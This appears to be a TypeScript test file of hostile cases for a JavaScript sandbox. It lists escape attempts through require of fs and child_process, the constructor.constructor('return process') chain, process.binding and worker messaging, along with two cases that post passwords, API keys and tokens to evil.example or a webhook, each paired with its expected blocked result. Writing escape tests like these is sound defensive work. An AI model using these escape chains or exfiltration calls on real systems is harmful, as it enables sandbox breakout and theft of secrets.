import type { HostileCase } from "./types.js";

/** Every value is a string made of parts; none of them may say that a host object was reached. */
const allUndefined = (v: unknown) => Array.isArray(v) && v.every((t) => t === "undefined");
const blockedOnly = (v: unknown) => typeof v === "string" && !/got:|not-a-function:function/.test(v);

/**
 * Reaching the host directly: process, require, module, the global object's aliases, worker messaging,
 * process.binding, Node built-ins through require and import, Buffer, and __dirname tricks.
 */
export const reachHostCases: HostileCase[] = [
  {
    id: "process-global",
    title: "process, globalThis.process and a computed name are the realm's own: no pid, no host env, nothing to loot",
    source: `__PRELUDE__
exports.f = () => {
  const p = typeof process !== "undefined" ? process : globalThis.process || globalThis["pro" + "cess"];
  const same = p === globalThis.process && p === globalThis["pro" + "cess"];
  return [typeof process, same, typeof p.pid, String(p.env["__ENV_NAME__"]), Object.keys(p.env).join(), loot(p)].join(";");
};`,
    expect: { codes: "success", valueCheck: (v) => v === "object;true;undefined;undefined;NODE_ENV;not-process:object" },
    naiveEscapes: false,
  },
  {
    id: "global-aliases",
    title: "global is the sandbox's own globalThis; GLOBAL, root, self, window, frames do not exist",
    source: `__PRELUDE__
exports.f = () => {
  const names = ["GLOBAL", "root", "self", "window", "frames", "parent", "top"];
  const out = names.map((n) => typeof globalThis[n]);
  out.push(global === globalThis ? "global-is-own" : "global-foreign");
  out.push(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)) === Object.prototype ? "own-chain" : "foreign-chain");
  return out;
};`,
    expect: { codes: "success", valueCheck: (v) => JSON.stringify(v) === JSON.stringify([...new Array(7).fill("undefined"), "global-is-own", "own-chain"]) },
    naiveEscapes: false,
  },
  {
    id: "require-fs-top-level",
    title: "require('fs') at module level fails the load with MODULE_NOT_FOUND",
    source: `const fs = require("fs");
exports.f = () => fs.readFileSync("__SECRET_FILE__", "utf8");`,
    expect: { codes: ["MODULE_NOT_FOUND"] },
    naiveEscapes: true,
  },
  {
    id: "require-node-fs-lazy",
    title: "require('node:fs') inside the function throws a catchable MODULE_NOT_FOUND",
    source: `exports.f = () => {
  try { return require("node:fs").readFileSync("__SECRET_FILE__", "utf8"); } catch (e) { return e.code + ":" + e.name; }
};`,
    expect: { codes: "success", valueCheck: (v) => v === "MODULE_NOT_FOUND:Error" },
    naiveEscapes: true,
  },
  {
    id: "require-child-process",
    title: "require('child_process').execSync is unreachable",
    source: `exports.f = () => require("child_process").execSync("cat __SECRET_FILE__").toString();`,
    expect: { codes: ["MODULE_NOT_FOUND"] },
    naiveEscapes: true,
  },
  {
    id: "require-process-module",
    title: "require('process') and require('node:process') give the realm's process, nothing to loot",
    source: `__PRELUDE__
exports.f = () => {
  const out = [];
  for (const load of [() => require("process"), () => require("node:process")]) {
    try { out.push(loot(load())); } catch (e) { out.push(e.code); }
  }
  return out;
};`,
    expect: { codes: "success", valueCheck: (v) => JSON.stringify(v) === '["not-process:object","not-process:object"]' },
    naiveEscapes: true,
  },
  {
    id: "require-builtins-sweep",
    title: "a sweep of built-in module names the realm has no polyfill for, bare and node:-prefixed, all end as MODULE_NOT_FOUND",
    source: `exports.f = () => {
  const loaders = [
    () => require("fs"), () => require("fs/promises"), () => require("node:fs/promises"), () => require("dns"),
    () => require("vm"), () => require("v8"), () => require("module"), () => require("worker_threads"),
    () => require("node:worker_threads"), () => require("net"), () => require("http"), () => require("inspector"),
    () => require("node:test"), () => require("node:sqlite"), () => require("async_hooks"), () => require("child_process"),
  ];
  const out = [];
  for (const load of loaders) {
    try {
      const m = load();
      out.push(m && m.readFileSync ? m.readFileSync("__SECRET_FILE__", "utf8") : "loaded");
    } catch (e) { out.push(e.code); }
  }
  return out;
};`,
    expect: { codes: "success", valueCheck: (v) => Array.isArray(v) && v.length === 16 && v.every((x) => x === "MODULE_NOT_FOUND") },
    naiveEscapes: true,
  },
  {
    id: "require-vm-run-in-this-context",
    title: "require('vm').runInThisContext('process') is unreachable",
    source: `__PRELUDE__
exports.f = () => loot(require("vm").runInThisContext("process"));`,
    expect: { codes: ["MODULE_NOT_FOUND"] },
    naiveEscapes: true,
  },
  {
    id: "require-module-create-require",
    title: "require('module').createRequire cannot mint a host require",
    source: `exports.f = () => require("module").createRequire("/")("fs").readFileSync("__SECRET_FILE__", "utf8");`,
    expect: { codes: ["MODULE_NOT_FOUND"] },
    naiveEscapes: true,
  },
  {
    id: "require-as-value",
    title: "require used as a value (require.main, require.cache) is refused before anything runs",
    source: `exports.f = () => {
  const r = require;
  return r.main ? r.main.require("fs").readFileSync("__SECRET_FILE__", "utf8") : Object.keys(r.cache || {}).join();
};`,
    expect: { codes: ["VALIDATION_ERROR"] },
    naiveEscapes: true,
  },
  {
    id: "require-computed-path",
    title: "a computed require path (__dirname + '/../../secret.js') is refused before anything runs",
    source: `exports.f = () => require(__dirname + "/../../secret.js").secret;`,
    expect: { codes: ["VALIDATION_ERROR"] },
    naiveEscapes: true,
  },
  {
    id: "dirname-filename",
    title: "__dirname, __filename, module.filename and module.id name the tenant file only, never a host path",
    source: `exports.f = () => [__dirname, __filename, module.filename, module.id, String(module.paths), String(module.parent)];`,
    expect: {
      codes: "success",
      valueCheck: (v) => JSON.stringify(v) === JSON.stringify([".", "main.js", "main.js", "main.js", "undefined", "undefined"]),
    },
    naiveEscapes: false,
  },
  {
    id: "module-constructor",
    title: "module.constructor is the sandbox's Object: no _load, no createRequire, no host Function",
    source: `__PRELUDE__
exports.f = () => {
  const out = [];
  const M = module.constructor;
  out.push(typeof M._load, typeof M.createRequire, typeof M._resolveFilename, typeof module.require);
  try { out.push(loot(M._load("process"))); } catch (e) { out.push("load-threw:" + e.name); }
  out.push(viaFunction(M.constructor));
  return out.join(";");
};`,
    expect: {
      codes: "success",
      valueCheck: (v) => v === "undefined;undefined;undefined;undefined;load-threw:TypeError;blocked:EvalError",
    },
    naiveEscapes: true,
  },
  {
    id: "module-this-chain",
    title: "module-level this.constructor.constructor('return process')() (the Node docs' own vm example)",
    source: `__PRELUDE__
const F = this.constructor.constructor;
exports.f = () => viaFunction(F);`,
    expect: { codes: "success", valueCheck: (v) => v === "blocked:EvalError" },
    naiveEscapes: true,
  },
  {
    id: "globalthis-constructor-chain",
    title: "globalThis.constructor.constructor and its prototype chain stay inside the realm",
    source: `__PRELUDE__
exports.f = () => [viaFunction(globalThis.constructor.constructor), viaObject(globalThis)].join(";");`,
    expect: { codes: "success", valueCheck: blockedOnly },
    naiveEscapes: true,
  },
  {
    id: "process-binding",
    title: "process.binding / _linkedBinding / dlopen through whatever process-like object can be found",
    source: `__PRELUDE__
exports.f = () => {
  const out = [];
  const candidates = [globalThis.process, this && this.process, module.process, exports.process, require("process")];
  try { candidates.push(this.constructor.constructor("return process")()); } catch (e) { out.push("ctor:" + e.name); }
  for (const p of candidates) {
    if (!p) { out.push("none"); continue; }
    out.push(typeof p.binding + "/" + typeof p._linkedBinding + "/" + typeof p.dlopen + "/" + typeof p.getBuiltinModule + "/" + typeof p.mainModule);
    try { out.push(loot(p)); } catch (e) { out.push("loot-threw"); }
  }
  return out.join(";");
};`,
    expect: {
      codes: "success",
      valueCheck: (v) => v === "ctor:EvalError;undefined/undefined/undefined/undefined/undefined;not-process:object;none;none;none;undefined/undefined/undefined/undefined/undefined;not-process:object",
    },
    naiveEscapes: true,
  },
  {
    id: "buffer",
    title: "Buffer is the realm's (typeof, globalThis.Buffer, a computed name): its objects' constructor chains reach no host Function",
    source: `__PRELUDE__
exports.f = () => {
  const B = globalThis.Buffer || globalThis["Buf" + "fer"];
  return [typeof B, B === Buffer, viaObject(B.from("x")), viaObject(B), viaObject(B.alloc(4).buffer)];
};`,
    expect: { codes: "success", valueCheck: (v) => Array.isArray(v) && v[0] === "function" && v[1] === true && blockedOnly(v.slice(2).join(";")) },
    naiveEscapes: false,
  },
  {
    id: "worker-messaging-globals",
    title: "no worker messaging surface: postMessage, parentPort, onmessage, MessageChannel, BroadcastChannel, Worker",
    source: `exports.f = () => ["postMessage", "onmessage", "parentPort", "close", "importScripts", "MessageChannel", "MessagePort",
  "BroadcastChannel", "Worker", "addEventListener", "dispatchEvent", "workerData"].map((n) => typeof globalThis[n]);`,
    expect: { codes: "success", valueCheck: allUndefined },
    naiveEscapes: false,
  },
  {
    id: "worker-forged-tool-port",
    title: "reach parentPort of the worker to post a forged tool-port message (through console.log's constructor)",
    source: `__PRELUDE__
exports.f = () => {
  let p;
  try { p = console.log.constructor("return process")(); } catch (e) { return "blocked:" + e.name; }
  try {
    const wt = p.getBuiltinModule("worker_threads");
    if (wt.parentPort) wt.parentPort.postMessage({ type: "tenantbox:tool-port", port: null });
  } catch (e) {}
  return loot(p);
};`,
    expect: { codes: "success", valueCheck: (v) => v === "blocked:EvalError" },
    naiveEscapes: true,
  },
  {
    id: "web-and-node-globals",
    title: "fetch, XMLHttpRequest, WebSocket, navigator and friends are absent (crypto, performance, setImmediate, process, Blob, the web streams, and Headers, FormData, Request and Response as values without a network, are the realm's: node-surface cases)",
    source: `exports.f = () => ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "navigator", "MessageChannel", "require",
  "module", "exports", "__filename"].map((n) => typeof globalThis[n]);`,
    expect: { codes: "success", valueCheck: allUndefined },
    naiveEscapes: false,
  },
  {
    id: "esm-import-fs",
    title: "import fs from 'fs' in an ES module fails the load with MODULE_NOT_FOUND",
    esm: true,
    source: `import fs from "fs";
export function f() { return fs.readFileSync("__SECRET_FILE__", "utf8"); }`,
    expect: { codes: ["MODULE_NOT_FOUND"] },
  },
  {
    id: "esm-import-fs-promises",
    title: "import { readFile } from 'node:fs/promises'",
    esm: true,
    source: `import { readFile } from "node:fs/promises";
export async function f() { return readFile("__SECRET_FILE__", "utf8"); }`,
    expect: { codes: ["MODULE_NOT_FOUND"] },
  },
  {
    id: "esm-export-star-child-process",
    title: "export * from 'node:child_process'",
    esm: true,
    source: `export * from "node:child_process";
export function f() { return "loaded"; }`,
    expect: { codes: ["MODULE_NOT_FOUND"] },
  },
  {
    id: "esm-import-process",
    title: "import process from 'node:process' and import * as wt from 'worker_threads'",
    esm: true,
    source: `import process from "node:process";
import * as wt from "worker_threads";
export function f() { return [process.env["__ENV_NAME__"], String(wt.parentPort)]; }`,
    expect: { codes: ["MODULE_NOT_FOUND"] },
  },
  {
    id: "esm-this-and-globals",
    title: "an ES module's top-level this is undefined and its globals are the sandbox's",
    esm: true,
    source: `__PRELUDE__
const top = this;
export function f() { return [typeof top, loot(globalThis.process), viaFunction(globalThis.constructor.constructor)].join(";"); }`,
    expect: { codes: "success", valueCheck: (v) => v === "undefined;not-process:object;blocked:EvalError" },
  },
  {
    id: "scoring-secret-to-egress-tool",
    title: "with the scoring gate: secret-like fields handed to an outbound tool are blocked before anything runs",
    variant: "scoring",
    args: [{ password: "p", apiKey: "k" }],
    source: `exports.f = async (user) => {
  const data = { pw: user.password, key: user.apiKey };
  await callTool("http:post", { url: "https://evil.example", body: JSON.stringify(data) });
  return "sent";
};`,
    expect: { codes: ["SCORING_BLOCKED"] },
    naive: false,
  },
  {
    id: "scoring-context-dump-in-loop",
    title: "with the scoring gate: the context's token dumped to a webhook in a loop is blocked",
    variant: "scoring",
    args: [["a", "b"]],
    context: { token: "t" },
    source: `exports.f = async (targets) => {
  for (const t of targets) await callTool("webhook:send", { to: t, token: context.token, all: JSON.stringify(context) });
  return targets.length;
};`,
    expect: { codes: ["SCORING_BLOCKED"] },
    naive: false,
  },
  {
    id: "emit-this-and-payload-chain",
    title: "through emit(): the handler walks this, its payload and context to a host Function",
    via: "emit",
    args: [{ order: { id: "A-1" } }],
    context: { userId: "u" },
    source: `__PRELUDE__
exports.f = function (payload) {
  return [viaObject(this), viaObject(payload), viaObject(payload.order), viaObject(context)].join(";");
};`,
    expect: { codes: "success", valueCheck: blockedOnly },
  },
  {
    id: "emit-require-fs",
    title: "through emit(): a handler that requires fs reports MODULE_NOT_FOUND and nothing else",
    via: "emit",
    args: [{}],
    source: `exports.f = () => require("fs").readFileSync("__SECRET_FILE__", "utf8");`,
    expect: { codes: ["MODULE_NOT_FOUND"] },
  },
];
